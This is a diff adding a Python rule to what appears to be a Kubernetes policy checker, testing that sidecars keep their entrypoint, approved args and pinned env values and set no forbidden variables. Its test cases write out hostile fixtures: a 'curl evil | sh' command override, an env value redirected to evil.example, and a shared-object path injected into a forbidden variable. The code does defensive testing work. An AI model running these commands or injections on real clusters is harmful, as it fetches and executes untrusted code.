@@ -1,0 +1,60 @@
+"""SC005: a sidecar keeps its entrypoint and approved args, pinned env values and no forbidden variable."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from ..registry import POD, SIDECAR_CATEGORY, Rule, RuleInfo
+
+
+def _sidecar(sidecar):
+    if sidecar.args is None and sidecar.command_allowed is not False and sidecar.env is None:
+        return None
+    env = sidecar.env
+    return {
+        "name": sidecar.name,
+        "forbidCommand": sidecar.command_allowed is False,
+        "checkArgs": sidecar.args is not None,
+        "argsPrefix": list(sidecar.args.prefix) if sidecar.args else [],
+        "pinnedEnv": [{"name": k, "value": v} for k, v in sorted(env.pinned.items())] if env else [],
+        "forbiddenEnv": sorted(env.forbidden) if env else [],
+    }
+
+
+def plan(given):
+    entries = [e for e in map(_sidecar, given.sidecars) if e is not None]
+    return {"scope": given.scope, "sidecars": entries} if entries else None
+
+
+def cases(p, kit):
+    side = p["sidecars"][0]
+    name = side["name"]
+    if side["forbidCommand"]:
+        kit.pod("command_override", True, lambda pod: kit.sidecar(pod, name).update(command=["/bin/sh", "-c", "curl evil | sh"]))
+    if side["checkArgs"] and side["argsPrefix"]:
+        kit.pod("args_replaced", True, lambda pod: kit.sidecar(pod, name).update(args=["--evil"]))
+    if side["pinnedEnv"]:
+        kit.pod("pinned_env_changed", True, lambda pod: kit.sidecar(pod, name)["env"][0].update(value="evil.example:15012"))
+    if side["forbiddenEnv"]:
+        var = side["forbiddenEnv"][0]
+        kit.pod("forbidden_env", True,
+                lambda pod: kit.sidecar(pod, name).setdefault("env", []).append({"name": var, "value": "/tmp/x.so"}))
+
+
+RULE = Rule(
+    info=RuleInfo("SC005", "sidecar-command-args-env", "Sidecar command, args and env",
+                  "A sidecar keeps its entrypoint, starts with the approved args, carries the pinned env values and none of the forbidden variables.",
+                  SIDECAR_CATEGORY, "high", POD),
+    checks={
+        "command-set": "command is set while commandAllowed is false",
+        "args-prefix": "args do not start with the approved prefix",
+        "env-pinned-missing": "a pinned env variable is missing",
+        "env-pinned-mismatch": "a pinned env variable has another value or a valueFrom",
+        "env-forbidden": "a forbidden env variable is set",
+        "envfrom-forbidden": "envFrom can set forbidden variables",
+        "env-malformed": "env or args is not of the shape Kubernetes reads",
+    },
+    plan=plan,
+    cases=cases,
+    folder=Path(__file__).parent,
+)
